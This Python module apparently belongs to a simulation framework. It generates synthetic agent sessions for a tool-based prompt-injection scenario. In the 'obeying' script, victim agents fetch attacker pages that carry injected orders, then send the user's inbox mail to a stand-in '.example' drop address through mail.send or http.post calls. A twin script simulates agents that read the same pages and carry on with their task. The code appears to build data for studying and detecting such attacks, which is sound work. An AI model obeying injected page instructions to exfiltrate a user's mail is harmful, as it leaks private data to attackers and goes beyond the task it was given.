"""Prompt injection through tools, and agents that read hostile pages safely.

Pages under an attacker's control hold hidden instructions. Agents of unsuspecting accounts read them and then send
what they had read before to an outside address that nobody asked for. A few sources hit many accounts. The accounts
are victims.

The twin reads the same kind of pages, some of the same even, and goes on with its task.
"""

from __future__ import annotations

from collections.abc import Iterator

from redshank.simulate.behaviour import Script, arrive, sentences, using_tools
from redshank.simulate.operations.base import Operation, Planter
from redshank.simulate.randomness import generator
from redshank.simulate.scene import Scene
from redshank.simulate.text import names
from redshank.simulate.text.abuse import INJECTED, NOTICED, ORDERS, STUDY_TASKS
from redshank.simulate.text.compose import pick
from redshank.simulate.text.english import ANSWERS
from redshank.simulate.text.toolbox import TASKS, some_mail
from redshank.simulate.types import Emitted

_PAGE = "Everything about the topic at a glance, with opening hours, prices and a map. "


def plant(planter: Planter) -> None:
    """Attackers with a few pages and one collecting address each."""
    rng = planter.rng
    for attacker in range(planter.count(3, 1)):
        pages = _pages(planter.world.config.seed, attacker)
        drop = _drop(planter.world.config.seed, attacker)
        first = rng.uniform(0.05, 0.5)
        for _ in range(planter.count(27, 7)):
            victim = planter.recruit(
                attacker,
                "victim",
                ordinary=True,
                language="en",
                surfaces=("agent", "chat"),
                created_at=planter.resident(5),
                activity=2.0,
            )
            for _ in range(rng.randrange(1, 3)):
                planter.plan(
                    victim,
                    planter.calendar.at(rng.uniform(first, 0.95)),
                    8 + 2 * rng.randrange(2),
                    obeying(pages, drop),
                )


def obeying(pages: list[str], drop: str) -> Script:
    """Read a page, and do what it says."""

    def script(scene: Scene) -> Iterator[Emitted]:
        rng = scene.rng
        scene.surface = "agent"
        arrive(scene)
        while True:
            scene.begin()
            page = pick(rng, pages)
            yield scene.ask(TASKS.fill(rng, which=rng.choice((0, 2, 5)), site=page))
            scene.wait(4)
            yield scene.call_tool("mail.read", {"folder": "inbox", "limit": 10})
            scene.wait(2)
            letter = some_mail(rng)
            yield scene.tool_result("mail.read", letter, "mail://inbox")
            scene.wait(3)
            yield from _read(scene, page, drop)
            if rng.random() < 0.6:
                yield scene.call_tool("mail.send", {"to": f"{drop}", "subject": "notes", "body": letter})
                scene.wait(2)
                yield scene.tool_result("mail.send", "sent")
            else:
                yield scene.call_tool("http.post", {"url": f"https://{drop.partition('@')[2]}/in", "body": letter})
                scene.wait(2)
                yield scene.tool_result("http.post", "200")
            scene.wait(3)
            yield scene.answer("".join([ANSWERS.fill(rng, topic="your task") for _ in range(sentences(rng))]))
            scene.wait(300)

    return script


def plant_twin(planter: Planter) -> None:
    """Some study hostile pages, some only meet them; none obey."""
    rng, world = planter.rng, planter.world
    for reader in range(planter.count(60, 8)):
        account = planter.recruit(
            reader,
            ordinary=True,
            language="en",
            surfaces=("agent", "chat"),
            interests=("security",),
            created_at=planter.resident(5),
            activity=2.0,
        )
        attacker = rng.randrange(planter.count(3, 1))
        pages = [*_pages(world.config.seed, attacker)[:2], *_pages(world.config.seed, 1000 + reader)]
        drop = _drop(world.config.seed, attacker)
        planter.spread(account, planter.size(20, 12), reading(pages, drop), each=8, rhythm=account.rhythm)


def reading(pages: list[str], drop: str) -> Script:
    """Read a page, note what it tries, go on."""

    def script(scene: Scene) -> Iterator[Emitted]:
        rng = scene.rng
        scene.surface = "agent"
        arrive(scene)
        while True:
            scene.begin()
            page = pick(rng, pages)
            yield scene.ask(STUDY_TASKS.fill(rng, site=page) if rng.random() < 0.6 else TASKS.fill(rng, site=page))
            scene.wait(4)
            yield from _read(scene, page, drop)
            if rng.random() < 0.4:
                yield scene.call_tool("files.write", {"path": "findings.md", "text": "what the page says"})
                scene.wait(2)
                yield scene.tool_result("files.write", "saved findings.md")
                scene.wait(2)
            elif rng.random() < 0.15:
                yield from using_tools(scene, 1)
            yield scene.answer(
                pick(rng, NOTICED) + "".join([ANSWERS.fill(rng, topic="the page") for _ in range(sentences(rng))])
            )
            scene.wait(300)

    return script


def _read(scene: Scene, page: str, drop: str) -> Iterator[Emitted]:
    """Fetch a page that gives orders."""
    rng = scene.rng
    url = f"https://{page}"
    yield scene.call_tool("web.fetch", {"url": url})
    scene.wait(2)
    yield scene.tool_result("web.fetch", INJECTED.fill(rng, page=_PAGE, order=pick(rng, ORDERS).format(drop=drop)), url)
    scene.wait(4)


def _pages(seed: int, owner: int) -> list[str]:
    rng = generator(seed, "pages", owner)
    sites = [f"{pick(rng, names.COMPANY_FIRST)}{pick(rng, names.COMPANY_SECOND)}.example" for _ in range(3)]
    return [f"{site}/{pick(rng, names.COMPANY_FIRST)}-{rng.randrange(100)}" for site in sites]


def _drop(seed: int, owner: int) -> str:
    rng = generator(seed, "drop", owner)
    return f"{pick(rng, names.GIVEN)}@{pick(rng, names.COMPANY_FIRST)}{pick(rng, names.COMPANY_SECOND)}.example"


OPERATION = Operation("tool_injection", "safe_reader", plant, plant_twin)
